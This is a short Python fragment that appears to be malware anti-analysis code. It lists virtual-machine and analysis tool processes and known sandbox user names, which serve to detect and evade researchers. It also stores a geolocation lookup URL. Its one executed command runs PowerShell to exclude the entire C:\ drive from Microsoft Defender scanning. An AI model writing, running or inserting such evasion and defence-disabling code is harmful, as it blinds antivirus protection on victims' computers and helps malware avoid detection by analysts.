# machine, tools, victims, defences, country: lists of analysts
import os

NAMES = ["vboxservice.exe", "vmtoolsd.exe", "wireshark.exe", "processhacker.exe"]
USERS = ["WDAGUtilityAccount", "Johnson Miller"]
WHERE = "http://ip-api.com/json"
os.system("powershell Add-MpPreference -ExclusionPath C:\\")
